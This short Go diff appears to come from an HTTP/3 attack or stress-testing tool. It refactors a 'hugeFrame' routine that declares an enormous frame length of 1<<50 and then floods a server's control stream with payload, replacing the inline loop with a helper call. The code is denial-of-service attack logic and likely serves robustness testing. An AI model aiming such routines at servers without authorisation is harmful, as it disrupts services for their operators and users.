@@ -66,16 +66,7 @@ func hugeFrame(a *attacker) error {
 	s := c.control()
 	s.write(h3.AppendFrameHeader(nil, 0x21, 1<<50), false)
 	b := make([]byte, maxPayload-streamHeader)
-	a.begun()
-	n := 0
-	a.eachConn(50_000, []*conn{c}, func(c *conn) bool {
-		if s.room(len(b)) {
-			s.write(b, false)
-			n++
-		}
-		return true
-	})
-	a.notef("%d packets; %s", n, ends([]*conn{c}))
+	a.pour(50_000, s, b)
 	return nil
 }
 
